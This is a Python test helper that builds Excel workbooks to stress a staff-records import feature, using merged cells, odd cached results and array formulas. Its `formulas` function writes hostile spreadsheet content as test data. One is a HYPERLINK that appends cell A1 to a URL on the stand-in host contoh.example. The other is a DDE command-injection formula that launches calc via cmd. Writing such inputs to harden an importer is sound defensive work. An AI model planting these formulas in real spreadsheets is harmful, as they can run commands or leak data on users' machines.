"""Workbooks as people make them: cells put together, formulas instead of words."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from io import BytesIO

import xlsxwriter
from xlsxwriter.worksheet import Worksheet

from tests.load.bad.forms import MARK
from tolok.evidence.documents import EXAMPLE
from tolok.evidence.queries import DAY_COLUMNS, LEAVE_COLUMNS
from tolok.evidence.queries.sheet import HEADERS
from tolok.people.queries import COLUMNS, Sheet

Draw = Callable[[Worksheet, int, str], None]
# What a spreadsheet program kept as a formula's result; a reader sees this or nothing.
RESULTS = (0, "", MARK, "#REF!", "2026-07-14", 1e308, True)


def book(draw: Draw) -> bytes:
    """A workbook with the sheets of every import, each filled by `draw` below its headings."""
    written = BytesIO()
    with xlsxwriter.Workbook(written, {"in_memory": True}) as made:
        for name, headings in _sheets():
            page = made.add_worksheet(name)
            page.write_row(0, 0, headings)
            draw(page, len(headings), name)
    return written.getvalue()


def merged(page: Worksheet, columns: int, name: str) -> None:
    """A title across the first line, a value for three lines at once, and a block of both."""
    page.merge_range(1, 0, 1, columns - 1, "Data bulan Juli")
    page.merge_range(2, 0, 4, 0, "199406122022212903")
    page.merge_range(5, 0, 8, columns - 1, MARK)
    page.write_row(9, 0, EXAMPLE.get(name, ()))


def formulas(page: Worksheet, columns: int, _name: str) -> None:
    """A line for each kind of result, and links and calls that no reader may follow."""
    for line, result in enumerate(RESULTS, start=1):
        for column in range(columns):
            page.write_formula(line, column, '=HYPERLINK("http://contoh.example/"&A1,"klik")', None, result)
    page.write_formula(len(RESULTS) + 1, 0, "=cmd|' /C calc'!A0")
    page.write_array_formula(len(RESULTS) + 2, 0, len(RESULTS) + 3, columns - 1, "{=A1:A2}")


def _sheets() -> Iterator[tuple[str, list[str]]]:
    yield "Data", list(HEADERS.values())
    yield "Presensi", [heading for heading, _read, _needed in DAY_COLUMNS.values()]
    yield "Cuti", [heading for heading, _read, _needed in LEAVE_COLUMNS.values()]
    yield from ((str(sheet), [column.header for column in COLUMNS[sheet]]) for sheet in Sheet)
